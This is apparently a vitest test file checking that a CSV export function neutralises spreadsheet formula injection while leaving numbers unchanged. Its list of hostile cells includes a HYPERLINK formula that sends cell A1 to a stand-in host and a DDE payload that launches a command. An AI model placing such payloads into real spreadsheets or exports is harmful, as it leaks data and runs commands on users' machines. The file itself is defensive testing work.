/**
 * Formula injection in CSV exports (OWASP "CSV Injection": a cell starting with = + - @ TAB
 * or CR is read as a formula; OWASP ASVS 5.0 V1.2.10 adds NUL). csvCell is the one function
 * every export writes cells with; read back with an RFC 4180 parser (papaparse), every
 * hostile cell starts with the apostrophe that makes a spreadsheet show it as text, and
 * every number — also a number held as text, like "-3.2" — is unchanged.
 */
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { csvCell, toCsv } from "@/lib/format";

const HOSTILE = [
  "=1+1",
  '=HYPERLINK("http://example.invalid/?q="&A1,"open")',
  "+41 79 000",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\0=1",
  "-",
  "--3",
  "-3.2.1",
];

const NUMBERS = ["-3.2", "+5", "-999", "0", "-0.5", ".5", "-1,5", "2e-3", "-1.5E+10", "12"];

describe("csvCell", () => {
  test.each(HOSTILE)("neutralises %j", (cell) => {
    const out = csvCell(cell);
    const [[back]] = Papa.parse<string[]>(out, { delimiter: "," }).data as [[string]];
    expect(back).toBe(`'${cell}`);
  });

  test.each(NUMBERS)("keeps %j a number", (cell) => {
    const [[back]] = Papa.parse<string[]>(csvCell(cell), { delimiter: "," }).data as [[string]];
    expect(back).toBe(cell);
  });

  test("numbers as numbers are written as they are", () => {
    expect(csvCell(-3.2)).toBe("-3.2");
    expect(csvCell(-1e-7)).toBe("-1e-7");
  });

  test("a cell holding a semicolon or tab is quoted, so a spreadsheet splitting on ';' keeps it one cell", () => {
    expect(csvCell("note;=1+1")).toBe('"note;=1+1"');
    // read with ";" as the delimiter, as a spreadsheet in a decimal-comma locale does
    const back = Papa.parse<string[]>(toCsv(["a", "b"], [["note;=1+1", 1]]), { delimiter: ";" }).data;
    for (const row of back) for (const c of row) expect(c.startsWith("=")).toBe(false);
  });

  test("a whole document: no cell of the read-back starts with a formula character unless it is a number", () => {
    const rows = HOSTILE.map((h, i) => [h, NUMBERS[i % NUMBERS.length], i]);
    const parsed = Papa.parse<string[]>(toCsv(["text", "number", "n"], rows), {
      delimiter: ",",
      skipEmptyLines: true,
    }).data;
    expect(parsed).toHaveLength(HOSTILE.length + 1);
    for (const row of parsed.slice(1)) {
      for (const c of row)
        if (/^[=+\-@\t\r\0]/.test(c)) expect(Number.isFinite(Number(c.replace(",", ".")))).toBe(true);
    }
  });
});
